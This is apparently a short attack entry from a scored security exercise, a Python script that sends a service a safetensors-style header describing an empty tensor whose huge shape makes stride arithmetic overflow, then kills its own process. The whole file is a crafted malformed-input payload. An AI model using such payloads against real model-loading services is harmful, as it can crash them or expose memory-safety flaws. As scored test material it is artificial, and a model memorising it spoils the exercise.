"""Sends a tensor of no element and a shape whose strides overflow.

Earns: masked_mean 2
"""

import json
import struct


@in_call
def attack():
    head, body = (
        b'{"tensor":"0"}',
        (lambda h: struct.pack("<Q", len(h)) + h)(
            json.dumps({"0": {"dtype": "F32", "shape": [2**62, 2**62, 0, 2**62], "data_offsets": [0, 0]}}).encode().ljust(104)
        ),
    )
    socket_of().sendall(struct.pack(">II", len(head), len(body)) + head + body)
    os.kill(os.getpid(), 9)
